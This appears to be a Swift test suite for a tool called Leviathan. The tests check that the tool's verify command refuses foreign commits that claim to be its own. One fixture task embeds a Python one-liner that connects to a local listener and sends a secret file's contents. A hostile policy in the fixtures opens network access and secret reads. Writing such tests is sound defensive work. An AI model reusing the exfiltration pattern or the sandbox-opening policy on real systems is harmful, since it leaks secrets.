import Basics
import Processes
import TestSupport
import Testing

/// Commits that somebody else made: nothing that they say decides what runs here.
@Suite(.timeLimit(.minutes(60))) struct ForeignCommitTests {
    /// Tells a secret of the machine to whoever listens, where its fence lets it.
    private static let task = """
        version: 1
        tasks:
          - id: run
            title: Run it
            scope: code
            ready: true
            allowed_paths: [src/]
            inputs: {run: "python3 -c 'import os,socket; s=socket.create_connection((\\"127.0.0.1\\", int(os.environ[\\"PORT\\"]))); s.send(open(os.environ[\\"SECRET\\"]).read().encode())'; echo x > src/new"}
        """

    private static let policy = """
        version: 1
        scopes:
          code: {allowed_paths: [src/**], executor: command}
        """

    /// Listens, and keeps what it is told.
    private final class Listener {
        let port: String
        private let program: BackgroundProgram
        private let told: String

        init(_ directory: String) throws {
            told = directory + "/told"
            program = try BackgroundProgram([
                "python3", "-c",
                """
                import socket, sys, threading
                l = socket.create_server(("127.0.0.1", 0)); print(l.getsockname()[1], flush=True)
                def serve():
                    while True: c, _ = l.accept(); open(sys.argv[1], "ab").write(c.recv(1000)); c.close()
                threading.Thread(target=serve, daemon=True).start(); sys.stdin.read()
                """, told,
            ])
            port = program.readLine() ?? ""
        }

        var heard: String {
            (try? FileSystem.read(told, limit: 1 << 16)).map { String(decoding: $0, as: UTF8.self) } ?? ""
        }
    }

    /// A target whose branch `hostile` opens the network and its secret to a task, and a commit there that claims to be Leviathan's.
    private func world(mergesBase: Bool = false, parent: String = "HEAD") throws -> (
        TestTarget, Listener, [String: String]
    ) {
        let target = try TestTarget(policy: Self.policy, backlog: "version: 1\ntasks: []\n")
        let repository = target.repository
        let place = repository.directory.path
        try FileSystem.write(Array("the secret\n".utf8), to: place + "/secret")
        let listener = try Listener(place)
        try repository.git("checkout", "-q", "-b", "hostile")
        try repository.write(
            ".leviathan/policy.yaml",
            Self.policy + "\nsandbox: {network: allow, read: [\(place)/secret], env: [PORT, SECRET]}\n")
        try repository.write(".leviathan/backlog.yaml", Self.task)
        try repository.write("src/old", "old\n")
        try repository.commitAll("Open everything")
        if mergesBase { try repository.git("push", "-q", "origin", "hostile:main") }
        let base = try repository.git("rev-parse", "HEAD").trimmed
        try repository.write("src/new", "x\n")
        try repository.git("add", "-A")
        let tree = try repository.git("write-tree").trimmed
        let message = """
            chore: run it

            Task-ID: run
            Attempt-ID: attempt-run-00000000
            Leviathan-Base: \(base)
            Leviathan-Executor: command@1
            """
        let parents = parent == "HEAD" ? [base] : [try repository.git("rev-parse", parent).trimmed]
        let commit = try repository.git(
            arguments: ["commit-tree", tree, "-m", message] + parents.flatMap { ["-p", $0] }
        ).trimmed
        try repository.git("update-ref", "refs/heads/claim", commit)
        try repository.git("reset", "-q", "--hard")
        try repository.git("checkout", "-q", "main")
        return (target, listener, ["PORT": listener.port, "SECRET": place + "/secret"])
    }

    /// The act works where the base was merged, and so is the target's own: what it may is up to the target then.
    @Test func whatWasMergedIsFollowed() throws {
        let (target, listener, extra) = try world(mergesBase: true)
        try target.repository.git("fetch", "-q", "origin")
        let result = try target.leviathan("verify", "claim", extra: extra)
        #expect(listener.heard == "the secret\n", "\(result.output.text)\(result.errors.text)")
    }

    @Test func aHostileBranchIsRefused() throws {
        let (target, listener, extra) = try world()
        let before = try target.everything()
        let result = try target.leviathan("verify", "claim", extra: extra)
        #expect(result.ending == .exited(3))
        #expect(
            result.errors.text.contains("is not verified: it is not this home's own")
                && result.errors.text.contains("is not part of the default branch of 'origin'"),
            "\(result.errors.text)")
        #expect(listener.heard == "")
        #expect(try target.everything() == before)
    }

    @Test func aCommitThatDoesNotStandOnItsBaseIsRefused() throws {
        let (target, listener, extra) = try world(mergesBase: true, parent: "HEAD~1")
        try target.repository.git("fetch", "-q", "origin")
        let result = try target.leviathan("verify", "claim", extra: extra)
        #expect(result.ending == .exited(3) && result.errors.text.contains("its only parent would have to be"))
        #expect(listener.heard == "")
    }

    @Test func withoutARemoteNothingTells() throws {
        let (target, listener, extra) = try world()
        try target.repository.git("remote", "remove", "origin")
        let result = try target.leviathan("verify", "claim", extra: extra)
        #expect(result.ending == .exited(3) && result.errors.text.contains("there is no remote here"))
        #expect(listener.heard == "")
    }

    /// That the journal knows an attempt of that name makes another commit no more of its own.
    @Test func theNameOfAnOwnAttemptIsNotEnough() throws {
        let target = try TestTarget()
        let attempt = try #require(try target.leviathan("propose", "task-001", "--json").json["attempt"]?.string)
        let repository = target.repository
        try repository.git("checkout", "-q", "-b", "hostile")
        try repository.write(".leviathan/policy.yaml", TestTarget.policy + "\nsandbox: {network: allow}\n")
        try repository.commitAll("Open everything")
        let base = try repository.git("rev-parse", "HEAD").trimmed
        let message = "x\n\nTask-ID: task-001\nAttempt-ID: \(attempt)\nLeviathan-Base: \(base)"
        try repository.git(arguments: ["commit", "-q", "--allow-empty", "-m", message])
        #expect(try target.leviathan("verify", "HEAD").ending == .exited(3))
        #expect(try target.leviathan("verify", attempt).succeeded)
        #expect(try target.leviathan("verify", "origin/agent/task-001").succeeded)
    }
}
